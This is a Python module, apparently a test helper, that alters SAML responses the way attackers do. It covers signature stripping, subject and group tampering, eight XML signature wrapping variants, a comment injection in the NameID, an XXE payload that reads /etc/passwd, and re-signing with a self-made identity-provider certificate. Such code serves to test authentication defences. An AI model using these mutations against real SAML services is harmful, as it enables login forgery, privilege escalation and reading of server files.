"""Changes real SAML responses as attackers do."""

from __future__ import annotations

import base64
from collections.abc import Callable
from copy import deepcopy
from datetime import UTC, datetime, timedelta
from typing import Any

import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID
from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
EVIL = "G-attacker"

Element = Any
Attack = Callable[[Element], Element]


def opened(response: str) -> Element:
    return etree.fromstring(base64.b64decode(response))


def packed(document: Element) -> str:
    return base64.b64encode(etree.tostring(document)).decode()


def assertion(document: Element) -> Element:
    return document.find(f"{SAML}Assertion")


def _forged(original: Element) -> Element:
    """An assertion of the attacker, without a signature."""
    copy = deepcopy(original)
    copy.set("ID", "_forged")
    copy.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    return _unsigned(copy)


def _unsigned(element: Element) -> Element:
    """Take its own signature away."""
    for signature in element.findall(f"{DS}Signature"):
        element.remove(signature)
    return element


def unsigned(document: Element) -> Element:
    for signature in list(document.iter(f"{DS}Signature")):
        signature.getparent().remove(signature)
    return document


def assertion_unsigned(document: Element) -> Element:
    """Only the message is signed, which covers the assertion no more."""
    _unsigned(assertion(document))
    return document


def renamed(document: Element) -> Element:
    assertion(document).find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    return document


def regrouped(document: Element) -> Element:
    next(document.iter(f"{SAML}AttributeValue")).text = "admins"
    return document


def unanswered(document: Element) -> Element:
    document.attrib.pop("InResponseTo")
    return _unsigned(document)


def xsw1(document: Element) -> Element:
    """The signed message lies within the signature of the forged one."""
    original = deepcopy(document)
    signature = document.find(f"{DS}Signature")
    signature.append(_unsigned(original))
    return _forge_message(document)


def xsw2(document: Element) -> Element:
    """The signed message lies before its signature, detached."""
    original = _unsigned(deepcopy(document))
    signature = document.find(f"{DS}Signature")
    signature.addprevious(original)
    return _forge_message(document)


def _forge_message(document: Element) -> Element:
    document.set("ID", "_forged_message")
    own = assertion(document)
    own.addprevious(_forged(own))
    document.remove(own)
    return document


def xsw3(document: Element) -> Element:
    """The forged assertion comes first."""
    own = assertion(_unsigned(document))
    own.addprevious(_forged(own))
    return document


def xsw4(document: Element) -> Element:
    """The forged assertion holds the signed one."""
    own = assertion(_unsigned(document))
    forged = _forged(own)
    own.addprevious(forged)
    forged.append(own)
    return document


def xsw5(document: Element) -> Element:
    """The forged assertion has the signature; the original comes after it."""
    own = assertion(_unsigned(document))
    original = _unsigned(deepcopy(own))
    own.set("ID", "_forged")
    own.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    document.append(original)
    return document


def xsw6(document: Element) -> Element:
    """The forged assertion has the signature, which holds the original."""
    own = assertion(_unsigned(document))
    original = _unsigned(deepcopy(own))
    own.set("ID", "_forged")
    own.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    own.find(f"{DS}Signature").append(original)
    return document


def xsw7(document: Element) -> Element:
    """The forged assertion lies in the extensions, with the signed one's ID."""
    own = assertion(_unsigned(document))
    extensions = etree.Element(f"{SAMLP}Extensions")
    forged = _forged(own)
    forged.set("ID", own.get("ID"))
    extensions.append(forged)
    own.addprevious(extensions)
    return document


def xsw8(document: Element) -> Element:
    """The forged assertion has the signature, and the original lies in an object of that."""
    own = assertion(_unsigned(document))
    original = _unsigned(deepcopy(own))
    own.set("ID", "_forged")
    own.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    etree.SubElement(own.find(f"{DS}Signature"), f"{DS}Object").append(original)
    return document


CHANGES: tuple[Attack, ...] = (
    unsigned,
    assertion_unsigned,
    renamed,
    regrouped,
    unanswered,
    xsw1,
    xsw2,
    xsw3,
    xsw4,
    xsw5,
    xsw6,
    xsw7,
    xsw8,
)


def with_entities(response: str, encoding: str) -> str:
    """The response with a document type that reads a file of the server."""
    text = base64.b64decode(response).decode()
    begin = f'<?xml version="1.0" encoding="{encoding}"?>'
    kind = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = text.partition("?>")[2] if text.startswith("<?xml") else text
    return base64.b64encode((begin + kind + body.replace("alice", "&x;", 1)).encode(encoding)).decode()


def commented(document: Element) -> Element:
    """A comment within the name, which the signature does not cover."""
    name = assertion(document).find(f"{SAML}Subject/{SAML}NameID")
    whole, middle = name.text, len(name.text) // 2
    name.text = whole[:middle]
    comment = etree.Comment("x")
    comment.tail = whole[middle:]
    name.append(comment)
    return document


class Signer:
    """An identity provider's key of our own, to sign what a real one would never say."""

    def __init__(self) -> None:
        key = rsa.generate_private_key(65537, 2048)
        name, now = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "test")]), datetime.now(UTC)
        made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        made = made.serial_number(1).not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=1))
        self._key = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
        self._certificate = made.sign(key, SHA256()).public_bytes(Encoding.PEM)

    def metadata(self, real: str) -> str:
        """The real provider's metadata with our certificate in place of its."""
        document = etree.fromstring(real.encode())
        ours = b"".join(self._certificate.splitlines()[1:-1]).decode()
        for certificate in document.iter(f"{DS}X509Certificate"):
            certificate.text = ours
        return etree.tostring(document).decode()

    def signed(self, document: Element, signature: str = xmlsec.constants.TransformRsaSha256) -> Element:
        """A response whose assertion has our signature only."""
        own = assertion(unsigned(document))
        template = xmlsec.template.create(own, xmlsec.constants.TransformExclC14N, signature)
        own.find(f"{SAML}Issuer").addnext(template)
        digest = (
            xmlsec.constants.TransformSha256 if signature.href.endswith("sha256") else xmlsec.constants.TransformSha1
        )
        reference = xmlsec.template.add_reference(template, digest, uri=f"#{own.get('ID')}")
        xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
        xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
        context = xmlsec.SignatureContext()
        context.key = xmlsec.Key.from_memory(self._key, xmlsec.constants.KeyDataFormatPem)
        context.register_id(own, "ID")
        context.sign(template)
        return document
